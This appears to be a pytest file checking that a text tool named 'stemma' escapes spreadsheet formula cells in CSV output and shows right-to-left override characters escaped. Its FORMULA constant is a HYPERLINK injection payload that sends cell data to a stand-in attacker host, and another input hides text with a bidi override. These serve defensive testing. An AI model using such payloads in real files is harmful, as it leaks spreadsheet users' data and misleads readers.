"""Case 58, and case 23: what leaves the program acts on nobody's screen or spreadsheet."""

import csv
import io
import json
from pathlib import Path

import pytest

import stemma
from stemma.model import Account
from stemma.tell import formats
from stemma.tell import tell as render

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Ferry") ran aground off Tarn Island on Monday.'
OVERRIDE = (
    "The ferry \u202eaurorA\u202c ran aground off Tarn Island on Monday, the coast guard said."
)


def told(tmp_path: Path, text: str, **given: str) -> list[Account]:
    path = tmp_path / "a.jsonl"
    path.write_text(json.dumps({"text": text, "outlet": "Norlund Herald"} | given))
    return stemma.tell(path)


@pytest.mark.parametrize("outlet", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "Norlund Herald"])
def test_58_formula_cells_are_escaped_in_csv(tmp_path: Path, outlet: str) -> None:
    table = render(told(tmp_path, FORMULA, outlet=outlet), (), "csv")
    rows = list(csv.reader(io.StringIO(table)))
    assert len(rows) > 1
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("form", formats())
def test_23_a_bidi_override_is_shown_escaped(tmp_path: Path, form: str) -> None:
    output = render(told(tmp_path, OVERRIDE), (), form)
    assert "\u202e" not in output
    assert "202e" in output.lower() or form == "tree", "it is shown that something is there"
